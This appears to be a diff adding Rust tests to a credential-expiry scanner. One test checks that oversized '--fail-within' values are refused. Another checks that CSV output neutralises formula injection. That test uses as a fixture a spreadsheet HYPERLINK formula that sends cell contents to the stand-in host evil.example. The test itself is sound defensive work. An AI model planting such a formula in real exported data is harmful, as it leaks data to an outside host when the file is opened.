@@ -184,6 +184,20 @@ async fn fail_within_sets_the_exit_code() {
     assert!(all(&bad).contains("write it like 180d"), "{}", all(&bad));
 }
 
+/// Regression: `--fail-within 300000y` panicked (the horizon overflowed the calendar).
+#[tokio::test]
+async fn fail_within_past_the_calendar_is_refused_not_a_panic() {
+    let scenario = Scenario::start().await.unwrap();
+    let widest = scan(&scenario, &["--fail-within", "36500d"]).await;
+    assert_eq!(widest.status.code(), Some(1), "every credential ends within 100 years: {}", all(&widest));
+    for text in ["36501d", "300000y"] {
+        let refused = scan(&scenario, &["--fail-within", text]).await;
+        assert_eq!(refused.status.code(), Some(2), "{text}: {}", all(&refused));
+        assert!(all(&refused).contains("--fail-within: ") && all(&refused).contains("is outside 0s..36500d"), "{text}: {}", all(&refused));
+        assert!(!all(&refused).contains("panicked"), "{}", all(&refused));
+    }
+}
+
 #[tokio::test]
 async fn refused_sign_in_is_bad_input() {
     let scenario = Scenario::start().await.unwrap();
@@ -388,6 +402,35 @@ async fn signs_in_from_flags_without_a_configuration_file() {
     assert!(output.status.success(), "{}", all(&output));
     assert_eq!(app_ids(&json_rows(&output)), tenant_app_ids(&scenario));
     assert!(!all(&output).contains(&scenario.rotator_secret));
+}
+
+/// CSV injection: a display name or credential name that a spreadsheet would run as a
+/// formula is written as text (leading `'`); JSON and the numbers are unchanged.
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    let scenario = Scenario::start().await.unwrap();
+    let hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
+    let app = scenario.tenant.register_app(hostile);
+    let now = Utc::now();
+    scenario
+        .tenant
+        .add_replicated_password(app.object_id, Some("@SUM(1+1)".into()), now - ChronoDuration::days(5), now - ChronoDuration::days(2))
+        .unwrap();
+    let csv = scan(&scenario, &["--output", "csv"]).await;
+    assert!(csv.status.success(), "{}", all(&csv));
+    let records = parse_csv(&stdout(&csv));
+    let row = records.iter().find(|r| r[1] == app.app_id.to_string()).expect("the hostile application's row");
+    assert_eq!(row[0], format!("'{hostile}"));
+    assert_eq!(row[5], "'@SUM(1+1)");
+    assert_eq!(row[8], "-2", "a negative number of days stays a number");
+    for record in &records[1..] {
+        for cell in record {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a formula cell: {cell:?}");
+        }
+    }
+    let json = scan(&scenario, &["--output", "json"]).await;
+    let rows = json_rows(&json);
+    assert!(rows.iter().any(|r| r["appDisplayName"] == hostile), "JSON carries the name as Graph has it");
 }
 
 /// RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks.
